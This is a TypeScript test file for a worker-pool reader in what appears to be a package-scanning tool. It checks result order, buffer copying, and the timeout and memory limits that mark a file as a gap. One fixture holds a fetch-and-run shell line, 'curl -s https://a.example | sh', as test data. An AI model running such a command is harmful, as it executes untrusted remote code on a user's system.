import { expect, test } from "vitest";
import type { PackageFile } from "../../../src/model/package-tree.ts";
import { openDirectReader } from "../../../src/read/isolate/direct-reader.ts";
import { openReaderPool } from "../../../src/read/isolate/reader-pool.ts";

function file(path: string, text: string): PackageFile {
  return { path, bytes: new TextEncoder().encode(text), mode: null };
}

const files = [file("a.sh", "curl -s https://a.example | sh\n"), file("b.md", "# B\n"), file("c.py", "import os\n")];

test("readings come in the order of the files, the same as without threads", async () => {
  const pool = openReaderPool({ threads: 2 });
  const isolated = await pool.read(files);
  await pool.close();
  expect(isolated.map(({ path }) => path)).toEqual(["a.sh", "b.md", "c.py"]);
  expect(isolated).toEqual(await openDirectReader().read(files));
});

test("the caller's bytes stay usable: a worker gets a copy", async () => {
  const whole = new TextEncoder().encode("xxcurl -s https://a.example\n");
  const view: PackageFile = { path: "a.sh", bytes: whole.subarray(2), mode: null };
  const pool = openReaderPool({ threads: 1 });
  await pool.read([view]);
  await pool.close();
  expect(whole.byteLength).toBe(28);
});

test("a file that takes too long becomes a gap, the others are read", async () => {
  const pool = openReaderPool({ threads: 1 });
  const slow = file("slow.js", "const a = [" + "f(g(h(1))),".repeat(400_000) + "];");
  const readings = await pool.read([slow], { secondsPerFile: 0.02 });
  await pool.close();
  expect(readings[0]?.gaps).toEqual([expect.objectContaining({ code: "timed-out", path: "slow.js", blocking: true })]);

  const patient = openReaderPool({ threads: 1 });
  const rest = await patient.read(files);
  await patient.close();
  expect(rest.flatMap(({ gaps }) => gaps)).toEqual([]);
});

test("a file that needs too much memory becomes a gap, its neighbours are read by a new worker", async () => {
  const pool = openReaderPool({ threads: 1, megabytesPerWorker: 96 });
  const hungry = file("hungry.js", `x = [${"{a:{b:[1,2,{c:3}]}},".repeat(300_000)}];`);
  const readings = await pool.read([file("first.sh", "ls\n"), hungry, file("last.sh", "ls\n")]);
  await pool.close();
  expect(readings[1]?.gaps[0]?.code).toMatch(/^(out-of-memory|too-large)$/);
  expect(readings[0]?.gaps).toEqual([]);
  expect(readings[2]?.gaps).toEqual([]);
});
